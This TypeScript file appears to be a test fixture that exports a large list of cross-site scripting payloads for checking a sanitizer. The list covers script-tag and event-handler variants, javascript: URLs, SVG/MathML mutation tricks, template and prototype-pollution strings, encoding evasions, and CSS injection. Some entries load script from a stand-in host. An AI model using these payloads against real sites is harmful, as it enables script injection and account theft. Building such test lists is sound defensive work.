/** What each payload calls if it runs. */
const CALL = 'canary()'

/** Where no request of a page may go. */
const ELSEWHERE = '//elsewhere.invalid'

const IMAGE = `<img src=x onerror=${CALL}>`

const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<ScRiPt >${CALL}</sCrIpT >`,
  `<script\n>${CALL}</script\n>`,
  `<script/x>${CALL}</script>`,
  `<script type=module>${CALL}</script>`,
  `<script type="text/jscript" language=JavaScript>${CALL}</script>`,
  `<script src=${ELSEWHERE}/x.js></script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL}//<</script>`,
  `<script>${CALL}`,
  `</script><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</noscript><script>${CALL}</script>`,
  `--><script>${CALL}</script><!--`,
  `]]><script>${CALL}</script>`,
  `<!--><script>${CALL}</script>-->`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
  `<template><script>${CALL}</script></template>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
  `<embed src="data:text/html,<script>parent.${CALL}</script>">`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=modulepreload href=${ELSEWHERE}/x.js>`,
  `<script>import('${ELSEWHERE}/x.js')</script>`,
]

/** An element, and the event that comes to it without anybody's doing, or almost. */
const HANDLERS = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['div', 'onpointerenter'],
  ['a href=#', 'onmouseover'],
  ['p style=animation-name:x', 'onanimationstart'],
] as const

const HANDLED = HANDLERS.flatMap(([element, event]) => [
  `<${element} ${event}=${CALL}>`,
  `<${element.toUpperCase()} ${event.toUpperCase()}="${CALL}">`,
  `<${element.replace(' ', '/')}/${event}='${CALL}'/>`,
  `<${element}\t${event}\n=\n"&#99;anary&lpar;&rpar;">`,
])

const BROKEN_ATTRIBUTES = ['"', "'", '`', '">', "'>", '&quot;>', '\\">', '"/>', ' '].flatMap((end) => [
  `${end}${end.endsWith('>') ? IMAGE : ` onmouseover=${CALL} x=`}`,
  `x${end} autofocus onfocus="${CALL}" y=${end}`,
])

const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;&#97;vascript:${CALL}`,
  `javascript://elsewhere.invalid/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `<a href="javascript:${CALL}" autofocus>open</a>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<form action="javascript:${CALL}"><button autofocus>send</button></form>`,
  `<button formaction="javascript:${CALL}">send</button>`,
  `<object data="javascript:${CALL}"></object>`,
  `[open](javascript:${CALL})`,
  `![image](x"onerror="${CALL})`,
  `${ELSEWHERE}/"><script>${CALL}</script>`,
]

const DRAWINGS = [
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}"></script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onmouseover to=${CALL}></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>open</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CALL}'/>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<svg><desc><![CDATA[</desc>${IMAGE}]]></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMAGE}">`,
  `<math href="javascript:${CALL}">open</math>`,
  `<math><annotation-xml encoding="text/html">${IMAGE}</annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<select><style></select>${IMAGE}</style></select>`,
]

const TEMPLATES = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$on.constructor('${CALL}')()}}`,
  `{{[].pop.constructor('${CALL}')()}}`,
  `<p ng-app ng-csp>{{$eval.constructor('${CALL}')()}}</p>`,
  `<p v-html="'${IMAGE}'">{{_c.constructor('${CALL}')()}}</p>`,
  `\${${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `{%raw%}${IMAGE}{%endraw%}`,
  `[[\${${CALL}}]]`,
  `@{${CALL}}`,
  `{${CALL}}`,
  `<p dangerouslySetInnerHTML={{__html: '${IMAGE}'}} />`,
  `{"dangerouslySetInnerHTML":{"__html":"${IMAGE}"}}`,
  `{"__proto__":{"innerHTML":"${IMAGE}"}}`,
  `__proto__[innerHTML]=${IMAGE}`,
  '__proto__',
  'constructor',
]

const SCRIPT_BREAKS = [
  `';${CALL};//`,
  `";${CALL};//`,
  `\\';${CALL};//`,
  `'-${CALL}-'`,
  `"+${CALL}+"`,
  `*/${CALL}/*`,
  `);${CALL};(`,
  `}${CALL};{`,
  `\u2028${CALL}\u2029`,
  `\\u0027;${CALL}//`,
  `\\x3cimg src=x onerror=${CALL}\\x3e`,
  `\`;${CALL};\``,
  `%27;${CALL};//`,
  `</script>'"><!--${IMAGE}`,
]

const UNICODE = [
  `＜script＞${CALL}＜/script＞`,
  `‹img src=x onerror=${CALL}›`,
  `<ſcript>${CALL}</ſcript>`,
  `<scr\u200bipt>${CALL}</scr\u200bipt>`,
  `\u202e${IMAGE}\u202c`,
  `\u2066${IMAGE}\u2069`,
  `\ufeff${IMAGE}`,
  `<\u0301img src=x onerror=${CALL}>`,
  `<İmg src=x onerror=${CALL}>`,
  `%3Cimg%20src%3Dx%20onerror%3D${CALL}%3E`,
  `%u003cimg src=x onerror=${CALL}%u003e`,
  `%c0%bcimg src=x onerror=${CALL}%c0%be`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `&#x3c;img src=x onerror=${CALL}&#x3e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `👩\u200d💻${IMAGE}`,
]

const STYLES = [
  `<style>@import '${ELSEWHERE}/x.css'</style>`,
  `<link rel=stylesheet href=${ELSEWHERE}/x.css>`,
  `<p style="background:url(${ELSEWHERE}/x.png)">`,
  `<p style="background:url(javascript:${CALL})">`,
  `<p style="width:expression(${CALL})">`,
  `<p style="-moz-binding:url(${ELSEWHERE}/x.xml)">`,
  `<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=${CALL}>`,
  `</style><style>body{display:none}</style>`,
  `;position:fixed;inset:0;background:url(${ELSEWHERE}/x.png)`,
  `color:red}body{background:url(${ELSEWHERE}/x.png)`,
]

/** Names that an element must not take from the page. */
const NAMES = ['canary', 'picture', 'getElementById', 'body', 'cookie'].map((name) => `<form id=${name} name=${name}>`)

/**
 * Texts that are scripts wherever a page takes a text for something else: each calls `canary`, asks another host or changes what the
 * page is made of. No two are the same.
 */
export const XSS_PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLED,
  ...BROKEN_ATTRIBUTES,
  ...ADDRESSES,
  ...DRAWINGS,
  ...TEMPLATES,
  ...SCRIPT_BREAKS,
  ...UNICODE,
  ...STYLES,
  ...NAMES,
]

/** Addresses that no source may have. */
export const NO_ADDRESSES: readonly string[] = ADDRESSES
